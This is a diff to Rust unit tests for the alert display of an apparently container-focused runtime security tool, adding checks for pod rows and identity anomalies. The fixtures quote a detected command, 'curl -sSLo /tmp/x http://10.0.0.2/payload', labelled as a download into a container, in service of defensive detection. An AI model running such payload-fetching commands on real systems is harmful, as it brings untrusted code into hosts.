@@ -14,7 +14,7 @@ fn show(message: &Message, width: usize) -> String {
 fn an_alert_fits_on_a_screen() {
     let expected = "\
 \x20HIGH  curl downloads into a container          T1105 · 12:03:14.281
-  container  web-1  8f3a2c91d0b4  nginx:1.25  docker
+  container  web-1  8f3a2c91d0b4  nginx:1.25  docker  steady
   process    curl -sSLo /tmp/x http://10.0.0.2/payload
              pid 4242  root
   lineage    containerd-shim-runc-v2 ─ sh ─ curl
@@ -36,6 +36,17 @@ fn an_alert_fits_on_a_screen() {
 }
 
 #[test]
+fn a_pod_has_a_row_of_its_own() {
+    let shown = show(&Message::Alert(Box::new(sample::in_pod())), 90);
+    let expected = "\
+\x20 container  web-1  8f3a2c91d0b4  nginx:1.25  docker
+  pod        shop/web-65747dc769-pjztg  Deployment/web  as shop  on node-1
+             app=web  tier=front
+  process ";
+    assert!(shown.contains(expected), "{shown}");
+}
+
+#[test]
 fn connections_have_names_and_ends() {
     let shown = show(&Message::Alert(Box::new(sample::connections())), 80);
     let expected = "\
@@ -49,6 +60,23 @@ fn connections_have_names_and_ends() {
                600 ms  accepted   10.0.0.2:50123 tcp
                 5.0 s  moved      10.0.0.2:80   ↑ 3.0 MiB  ↓ 92 B  files.exampl…
 ";
+    assert!(shown.contains(expected), "{shown}");
+}
+
+#[test]
+fn identity_is_told_with_what_is_odd_about_it() {
+    let shown = show(&Message::Alert(Box::new(sample::stranger())), 80);
+    let expected = "\
+\x20 container  8f3a2c91d0b4  nginx:1.25  docker  interactive
+             unverified: no runtime knows this id
+             in a container within it  inner › c0ffeec0ffee
+             sha256:0123456789ab
+  pod        shop/web-0  Deployment/web  on node-1
+  process    curl -sSLo /tmp/x http://10.0.0.2/payload
+             pid 4242  root  logged in as uid 1000  on pts/3
+  program    not in image; written 3.0 s before by wget[4200]
+  identity   cgroup left: cgroup says host, mount namespace says 8f3a2c91d0b4
+  lineage ";
     assert!(shown.contains(expected), "{shown}");
 }
 
